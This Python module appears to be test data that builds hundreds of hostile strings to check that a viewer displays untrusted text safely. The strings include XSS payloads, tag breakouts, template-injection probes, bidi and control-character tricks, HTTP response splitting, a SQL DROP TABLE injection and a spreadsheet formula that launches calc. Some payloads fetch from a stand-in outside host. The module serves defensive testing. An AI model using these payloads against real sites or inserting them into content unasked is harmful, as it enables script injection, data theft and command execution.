"""Strings that attack whoever looks at them: markup, scripts, styles, bidi and control characters, very long lines.

Each that could run or fetch something would set ``window.pwned`` or ask a host outside.
"""

from __future__ import annotations

CALL = "window.pwned=1"
OUTSIDE = "https://outside.invalid/x"

MARKUP = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<ScRiPt src={outside}></ScRiPt>",
    "<img src=x onerror={call}>",
    "<img src={outside}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<object data={outside}></object>",
    "<embed src={outside}>",
    "<link rel=stylesheet href={outside}>",
    "<style>@import '{outside}';*{{background:url({outside})}}</style>",
    "<base href={outside}>",
    "<meta http-equiv=refresh content='0;url={outside}'>",
    "<form action={outside}><input autofocus onfocus={call}></form>",
    "<a href='javascript:{call}'>点</a>",
    "<details open ontoggle={call}>",
    "<video src={outside} onerror={call}></video>",
    "<math><mtext></p><img src=x onerror={call}></mtext></math>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<textarea></textarea><script>{call}</script>",
    "<title></title><script>{call}</script>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<dialog open><button popovertarget=x>x</button></dialog>",
    "<div id=main><div id=desk data-held=x>",
    "<img name=querySelector><form id=ql>",
)
BREAKOUTS = (
    "{0}",
    '"{0}',
    "'{0}",
    '">{0}',
    "'>{0}",
    "`{0}",
    "-->{0}",
    "]]>{0}",
    "</title>{0}",
    "</textarea>{0}",
    "&quot;>{0}",
)
ODD = (
    '" onmouseover={call} x="',
    "' autofocus onfocus={call} '",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "{{{{7*7}}}}{{{{config}}}}",
    "{{% for x in [].__class__.__mro__ %}}{{{{x}}}}{{% endfor %}}",
    "${{{call}}}#{{{call}}}",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\u202e<script>{call}</script>\u202c",
    "\u2066\u2067\u2068{call}\u2069",
    "\u200b<\u200bscript>{call}</script>",
    "\x01\x02\x03\x1b[31m{call}\x7f\x85",
    "\ufeff\ufffe\uffff<script>{call}</script>",
    "\U000e0041\U000e0042{call}\U000e007f",
    "＜script＞{call}＜/script＞",
    "𠮷𪚥𝒮𝒸𝓇𝒾𝓅𝓉 {call}",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 {call}",
    "Z̸̡̛͚̹͓̈́̓̾ͅa͎l̵g̶o " + "e" + "\u0301" * 60 + "{call}",
    "مرحبا بالعالم <b onclick={call}>שלום</b>",
    "国家级" * 40 + "{call}",
    "A" * 3000 + "{call}",
    "\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n{call}",
    "'; DROP TABLE reviews; -- {call}",
    "\u2028\u2029{call}",
    "\u3164\u115f\u2800{call}",
    "=cmd|' /C calc'!A0 {call}",
)


def strings() -> list[str]:
    """More than 500, each different; the first of every sort come first."""
    filled = [one.format(call=CALL, outside=OUTSIDE) for one in (*MARKUP, *ODD)]
    markup = filled[: len(MARKUP)]
    wrapped = [wrap.format(one) for wrap in BREAKOUTS[1:] for one in markup]
    loud = [one.upper().replace("WINDOW.PWNED", "window.pwned") for one in markup]
    split = ["\u200b".join(one) for one in markup] + [one.replace("<", "\u202e<") for one in markup]
    nul = [one.replace("<", "<\t").replace(">", "/>") for one in markup] + [f"国家级{one}遥遥领先" for one in markup]
    return list(dict.fromkeys([*filled, *wrapped, *loud, *split, *nul]))
